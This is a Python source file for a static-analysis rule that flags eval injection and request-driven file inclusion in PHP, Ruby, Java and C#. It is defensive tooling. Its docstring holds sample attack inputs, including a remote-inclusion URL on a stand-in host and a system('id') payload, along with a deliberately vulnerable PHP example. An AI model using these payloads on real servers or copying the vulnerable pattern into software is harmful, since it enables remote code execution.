"""## What it does
Finds code evaluated from values, in PHP, Ruby, Java and C#: PHP's ``eval``,
``assert`` with a string, ``create_function`` and ``preg_replace`` with the
``/e`` modifier given anything but a literal, and ``include``/``require``
(also ``_once``) of a path taken from the request (``include($_GET["page"]
. ".php")``, remote or local file inclusion); Ruby's ``eval``,
``instance_eval``, ``class_eval`` and ``module_eval`` of a non-literal
string, and ``send``/``public_send``/``constantize`` of a request value;
Java's ``ScriptEngine.eval`` and C#'s ``CSharpScript.EvaluateAsync``/``RunAsync``
of a non-literal string.

## Why is this bad?
Whoever writes the value writes code that runs with the application's
rights: ``?page=http://evil.example/shell`` or ``?code=system('id');``
takes over the server.

## Example
```php
<?php
include($_GET["page"] . ".php");
eval($_POST["expression"]);
```

## Use instead
```php
<?php
$pages = ["home" => "home.php", "about" => "about.php"];
include($pages[$_GET["page"]] ?? "home.php");
```
Map the request's value onto a fixed list of files or operations; never
evaluate text that comes from outside the program.

## References
- [CWE-95: Eval Injection](https://cwe.mitre.org/data/definitions/95.html)
- [CWE-98: PHP Remote File Inclusion](https://cwe.mitre.org/data/definitions/98.html)
- [OWASP Code Injection](https://owasp.org/www-community/attacks/Code_Injection)
"""

from __future__ import annotations

from typing import Any, Iterator

from ...languages.code import CodeView
from ...model import Hit
from ..registry import rule
from ._values import LANGUAGES, from_request, is_outside

# Calls that evaluate their first argument as code, per language (a literal argument is left alone).
EVALUATORS = {"php": ("eval", "assert", "create_function"), "ruby": ("eval", "instance_eval", "class_eval",
                                                                     "module_eval"),
              "java": ("eval",), "csharp": ("EvaluateAsync", "RunAsync", "Evaluate", "Run")}
# Ruby's calls that run the method or class a string names.
RUBY_DISPATCH = ("send", "public_send", "__send__", "constantize", "const_get")
PHP_INCLUDES = ("include_expression", "include_once_expression", "require_expression", "require_once_expression")


@rule(
    id="DSL010",
    symbol="code-evaluated-from-value",
    title="Code evaluated or included from a value (PHP, Ruby, Java, C#)",
    severity="high",
    cwe=95,
    languages=LANGUAGES,
    equivalent="Semgrep php.lang.security.eval-use / tainted-file-inclusion, ruby.lang.security.no-eval",
    message="evaluates or includes code built from a value; map the input onto a fixed set of operations",
    use_instead='$pages = ["home" => "home.php"]; include($pages[$_GET["page"]] ?? "home.php");',
    name_triggers=("eval", "assert", "create_function", "preg_replace", "instance_eval", "class_eval", "module_eval",
                   "send", "public_send", "__send__", "constantize", "const_get", "evaluateasync", "runasync",
                   "include", "include_once", "require", "require_once"),
)
def check(view: CodeView) -> Iterator[Hit]:
    language = view.language
    for call in view.calls_named(*EVALUATORS.get(language, ())):
        if not _evaluates(view, call.name, call.short):
            continue
        code = call.argument(0)
        if code is None or view.is_constant(code) or not is_outside(view, code):
            continue
        if call.short == "assert" and view.string_value(code) is None and not _a_string(view, code):
            continue  # PHP's assert of an expression (not a string) evaluates nothing
        yield Hit(view.line(call.node), view.column(call.node),
                  f"`{view.text_of(call.node, 50)}` evaluates code built from `{view.text_of(code, 40)}`: whoever "
                  "writes that value runs code on the server; map the input onto fixed operations instead")
    if language == "php":
        for call in view.calls_named("preg_replace"):
            pattern = view.string_value(call.argument(0)) or ""
            end = pattern.rfind(pattern[:1]) if pattern else -1
            modifiers = pattern[end + 1:] if end > 0 else ""
            if "e" in modifiers and is_outside(view, call.argument(2)):
                yield Hit(view.line(call.node), view.column(call.node),
                          f"`preg_replace` with the `/e` modifier evaluates the replacement as PHP code; use "
                          "`preg_replace_callback`")
        for node in view.nodes_of(*PHP_INCLUDES):
            target = node.named_children[0] if node.named_children else None
            if target is not None and from_request(view, target) and not _looked_up(view, target):
                yield Hit(view.line(node), view.column(node),
                          f"`{view.text_of(node, 50)}` includes a file the request names: `?page=` set to another "
                          "path or a URL runs that code (file inclusion); map the value onto a fixed list of files")
    if language == "ruby":
        for call in view.calls_named(*RUBY_DISPATCH):
            target = call.argument(0) if call.short not in ("constantize",) else _receiver(view, call.node)
            if target is not None and from_request(view, target) and not _allow_listed(view, call.node):
                yield Hit(view.line(call.node), view.column(call.node),
                          f"`{view.text_of(call.node, 50)}` runs the method or class the request names: any "
                          "method of the object is reachable (`system`, `eval`...); allow-list the names")


def _looked_up(view: CodeView, node: Any) -> bool:
    """``$pages[$_GET["page"]] ?? "home.php"``: the request's value only picks an entry of a fixed table."""
    while node.type == "parenthesized_expression" and node.named_children:
        node = node.named_children[0]
    if node.type == "binary_expression" and "??" in view.text_of(node):
        node = node.child_by_field_name("left") or node
    if node.type == "subscript_expression" and node.named_children:
        table = view.text_of(node.named_children[0])
        return not table.startswith("$_")
    return False


ALLOW_LIST_WORDS = ("include?", "in_array", "allowed", "ALLOWED", "Contains", "contains", "member?", "key?")


def _allow_listed(view: CodeView, node: Any) -> bool:
    """Inside a condition that checks the name against a list (``if FORMATS.include?(format)``)."""
    current = node.parent
    while current is not None:
        if current.type in ("if", "if_modifier", "unless", "conditional", "if_statement", "ternary_expression"):
            condition = current.child_by_field_name("condition")
            if condition is not None and any(word in view.text_of(condition) for word in ALLOW_LIST_WORDS):
                return True
        current = current.parent
    return False


def _evaluates(view: CodeView, name: str, short: str) -> bool:
    if view.language == "java":
        return name != short  # ``engine.eval(script)``: a ScriptEngine (not a free function named eval)
    if view.language == "csharp":
        return "CSharpScript" in name
    return name == short or view.language == "ruby" and short != "eval"  # (Ruby: ``klass.class_eval(code)``)


def _a_string(view: CodeView, node: Any) -> bool:
    return view.built(node) is not None or node.type in ("variable_name", "subscript_expression")


def _receiver(view: CodeView, node: Any) -> Any:
    return node.child_by_field_name("receiver")
